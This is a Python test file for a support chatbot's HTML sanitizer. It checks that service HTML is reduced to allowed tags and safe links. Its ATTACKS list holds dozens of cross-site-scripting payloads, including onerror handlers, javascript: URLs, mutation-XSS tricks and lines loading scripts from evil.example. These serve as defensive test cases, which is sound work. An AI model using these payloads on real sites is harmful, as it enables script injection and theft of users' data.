"""HTML of services leaves only without what could harm who shows it."""

from __future__ import annotations

import re
from html import escape
from html.parser import HTMLParser
from importlib import resources

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supportbot.channels import markup
from supportbot.channels.markup import REL, SCHEMES, TAGS, cleaned, presentable
from supportbot.events import CustomerSaid, ParagraphSaid
from tests.http_fakes import HttpScene, said
from tests.websocket_fakes import WebSocketScene

LINK = f'<a href="(?:{"|".join(sorted(SCHEMES))}):[^"<>]*" rel="{REL}">'
PIECE = re.compile(
    rf"</?(?:{'|'.join(sorted(TAGS - {'a', 'br'}))})>|<br>|</a>|{LINK}"
    rf'|<a rel="{REL}">|[^<]+',
    re.IGNORECASE,
)
MARKDOWN = {
    *("del", "h3", "h4", "h5", "h6", "hr"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
"""Tags that browsers make of Markdown, and services may not send."""
EVIL = "<p>Nice <img src=x onerror=alert(1)><b>socks</b><script>alert(2)</script>.</p>"
NICE = "<p>Nice <b>socks</b>.</p>"

ATTACKS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img/src=`x`onerror=alert(1)>
<svg onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<p onclick=alert(1)>x</p>
<p style="background:url(javascript:alert(1))">x</p>
<b id=location name=cookie class=x data-x=1>x</b>
<a href="javascript:alert(1)">x</a>
<a href="JaVa&#x09;ScRiPt:alert(1)">x</a>
<a href="&#106;avascript&colon;alert(1)">x</a>
<a href=" \x01javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="/api/chat/stream?message=buy">x</a>
<a href="//evil.example">x</a>
<a href="blob:https://x/1" target=_top ping=//evil.example download>x</a>
<a href="https://ok.example/" onmouseover=alert(1) rel=opener>x</a>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object><embed src=//evil.example>
<form action=//evil.example><input name=pin><button formaction=javascript:alert(1)>
<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<style>@import "//evil.example"</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<template><img src=x onerror=alert(1)></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext></p><img src=x onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><p title="--&gt;&lt;img onerror=x&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]>
<table><tr><td><a href="https://a.example"><table><a href="javascript:alert(1)">x
<select><template><style><!--</select><img src=x onerror=alert(1)>-->
<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>
<title><img src=x onerror=x></title><textarea></textarea><img src=x onerror=alert(1)>
<p title="</p><img src=x onerror=alert(1)>" lang=x dir=rtl>x</p>
<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>
<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)><marquee onstart=alert(1)>x</marquee></details>
<support-chat base=//evil.example></support-chat>
<p>x</p\x00><img src=x onerror=alert(1)
<<p>img src=x onerror=alert(1)>
""".strip().splitlines()  # fmt: skip

KNOWN = """
p br strong b em i u s code pre ul ol li a blockquote table tr td caption svg math mtext
mglyph desc foreignObject style script title textarea template form select option
noscript iframe xmp plaintext frameset body head button h1 div span font nobr img object
"""
WRITTEN = (
    "<{0}>",
    "</{0}>",
    "<{0} onload=x href='http://a' style=x>",
    "<{0} href=javascript:x src=y",
    '<{0} title="</{0}><img src=x onerror=y>">',
)
TOKENS = st.one_of(
    st.builds(str.format, st.sampled_from(WRITTEN), st.sampled_from(KNOWN.split())),
    st.sampled_from(["<!--", "-->", "<![CDATA[", "]]>", "<", ">", '"', "&lt;", "&"]),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=5),
)
SOUP = st.lists(TOKENS, max_size=20).map("".join)


class Reader(HTMLParser):
    """Takes the text, the tags and the links out of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.text, self.tags, self.links = "", list[str](), list[str]()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_data(self, data: str) -> None:
        self.text += data


def harmless(text: str) -> bool:
    """Whether it is nothing but text and the tags that are allowed, well written."""
    return "".join(PIECE.findall(text)) == text


def test_what_harmless_means() -> None:
    assert harmless(f'<p>1 > 0 &amp; <a href="tel:1" rel="{REL}">x</a><br></p>')
    for text in ("<p >x", "<img>", "a < b", "<b id=x>", '<a href="x:y" rel="">'):
        assert not harmless(text), text


def test_our_page_lets_the_same_through() -> None:
    folder = resources.files("supportbot") / "assets" / "chat"
    script = (folder / "markup.js").read_text("utf-8")
    (listed,) = re.findall(r"const tags =([^;]*);", script)
    tags = set("".join(re.findall(r'"([^"]*)"', listed)).split())
    assert tags == TAGS | MARKDOWN
    assert "/^(?:https?|mailto|tel):/i" in script
    assert frozenset({"http", "https", "mailto", "tel"}) == SCHEMES
    assert f'link.rel = "{REL}";' in script


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks(attack: str) -> None:
    for text in (attack, f"<p>{attack}</p>", f"<ul><li><b>{attack}"):
        result = cleaned(text, "html")
        assert harmless(result), result
        assert cleaned(result, "html") == result
        for link in Reader(result).links:
            assert link == "https://ok.example/" or link == "https://a.example"


@given(SOUP)
def test_nothing_else_comes_through_whatever_comes(text: str) -> None:
    result = cleaned(text, "html")
    assert harmless(result)
    assert cleaned(result, "html") == result


INLINE = st.recursive(
    st.text(st.characters(exclude_categories=["Cc", "Cs"])).map(escape),
    lambda inner: st.builds(
        lambda tag, pieces: f"<{tag}>{''.join(pieces)}</{tag}>",
        st.sampled_from(["b", "strong", "em", "i", "u", "s", "code"]),
        st.lists(inner, max_size=3),
    ),
    max_leaves=12,
)


@given(INLINE)
def test_what_is_allowed_stays(inline: str) -> None:
    text = f'<p>{inline}<br><a href="https://shop.example/?a=1&amp;b=2">here</a></p>'
    before, after = Reader(text), Reader(cleaned(text, "html"))
    assert after.text == before.text
    assert after.tags == before.tags
    assert after.links == before.links == ["https://shop.example/?a=1&b=2"]


@pytest.mark.parametrize(
    ("text", "result"),
    [
        (NICE, NICE),
        (EVIL, NICE),
        ("<p>x", "<p>x</p>"),
        ("<P CLASS=a>x</P>", "<p>x</p>"),
        ("<p>a<br/>b</p>", "<p>a<br>b</p>"),
        ("<p>1 < 2 & <i>3</i></p>", "<p>1 &lt; 2 &amp; <i>3</i></p>"),
        ("<style>p { color: red }</style><template>a</template>b", "b"),
        ("<h1>Socks</h1><div>float</div>", "Socksfloat"),
        ("<ol><li>a<li>b</ol>", "<ol><li>a</li><li>b</li></ol>"),
        ("<pre>\n\n  a</pre>", "<pre>\n\n  a</pre>"),
        ("<pre><code>a\n b</code></pre>", "<pre><code>a\n b</code></pre>"),
        ("<a href=mailto:a>x</a>", f'<a href="mailto:a" rel="{REL}">x</a>'),
        ("<a href=/docs#x>x</a>", f'<a rel="{REL}">x</a>'),
        # Without the table, a browser would close the first link before the second.
        (
            "<a href=tel:1><table><tr><td><a href=tel:2>x",
            f'<a href="tel:1" rel="{REL}"></a><a href="tel:2" rel="{REL}">x</a>',
        ),
    ],
)  # fmt: skip
def test_examples(text: str, result: str) -> None:
    assert cleaned(text, "html") == result


@pytest.mark.parametrize(
    "text",
    [
        "<p>Self-levitating socks that float gently in your drawer.</p>",
        "<p></p>",
        "<p>R&D &amp; &lt;more&gt; — “ü” > 1</p>",
        "No matching terms found.",
        "",
        "Q & A",
    ],
)
def test_ordinary_paragraphs_are_given_as_they_came(text: str) -> None:
    assert cleaned(text, "html") is text


@given(SOUP, st.sampled_from(["markdown", "plain"]))
def test_what_is_no_html_is_left_as_it_is(text: str, format: str) -> None:
    assert cleaned(text, format) is text  # type: ignore[arg-type]


def test_what_would_grow_without_end_is_shown_as_text() -> None:
    opened = "".join(f"<b x={number}>" for number in range(100))
    many = f"<p>{opened}" + "<p>word &amp; " * 2_000
    result = cleaned(many, "html")
    assert result == "<p>" + "\n".join(["word &amp;"] * 2_000) + "</p>"
    assert cleaned(result, "html") is result
    few = f"<p>{opened}" + "<p>word " * 140
    assert "<b>" in cleaned(few, "html")
    assert len(cleaned(few, "html")) < 200_000


def test_what_is_found_different_again_and_again_is_shown_as_text(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(markup, "_PASSES", 1)
    assert cleaned(EVIL, "html") == "<p>Nice socks.</p>"
    assert cleaned("<p>a <b>&lt;</b></p>", "html") == "<p>a <b>&lt;</b></p>"


def test_only_paragraphs_of_html_change() -> None:
    told = ParagraphSaid(seq=4, at=2.0, text=EVIL, format="html")
    assert presentable(told) == ParagraphSaid(seq=4, at=2.0, text=NICE, format="html")
    assert told.text == EVIL
    for event in (
        ParagraphSaid(seq=4, at=2.0, text=NICE, format="html"),
        ParagraphSaid(seq=4, at=2.0, text=EVIL, format="markdown"),
        CustomerSaid(seq=1, at=2.0, text=EVIL, message_id="m"),
    ):
        assert presentable(event).text == event.text


class OverHttp(HttpScene):
    """Every way out of the HTTP API."""

    def test_the_whole_answer_and_the_history(self) -> None:
        client = self.chat(session_id="s", message_id="m")
        self.answer(EVIL, EVIL)
        self.assertEqual(client.take_one().json["response"], NICE * 2)
        (_, turn) = self.call("GET", "/api/session/s").json["history"]
        self.assertEqual(turn["content"], NICE * 2)
        token = ("Authorization", "Bearer token")
        (one,) = self.call("GET", "/api/sessions", None, [token]).json["sessions"]
        self.assertEqual(one["last_message"]["content"], NICE * 2)
        page = self.call("GET", "/api/session/s/events?stream=false").json
        texts = [one["text"] for one in page["events"] if "format" in one]
        self.assertEqual(texts, [NICE, NICE])
        stored = self.successResultOf(self.store.read("s", 0, 100))
        texts = [one.text for one in stored if isinstance(one, ParagraphSaid)]
        self.assertEqual(texts, [EVIL, EVIL])

    def test_streams(self) -> None:
        self.call("POST", "/api/session/new")
        follower = self.follow("session-0")
        client = self.chat(session_id="session-0", stream=True)
        reply = self.service.last.reply
        reply.paragraph(EVIL)
        reply.paragraph("<p>Two.</p>")
        reply.revise(1)
        self.service.last.end()
        chunk, _, replace, _ = said(client.take_one())
        self.assertEqual((chunk, replace), ({"chunk": NICE}, {"replace": NICE}))
        follower.vanish()
        texts = [one["text"] for one in said(follower.take_one()) if "format" in one]
        self.assertEqual(texts, [NICE, "<p>Two.</p>"])


class OverWebSocket(WebSocketScene):
    def test_chunks_and_the_whole(self) -> None:
        client, _ = self.begun(stream=True)
        self.answer(EVIL)
        _, chunk, whole, _ = client.take()
        self.assertEqual(chunk["data"]["text"], NICE)
        self.assertEqual(whole["data"], NICE)
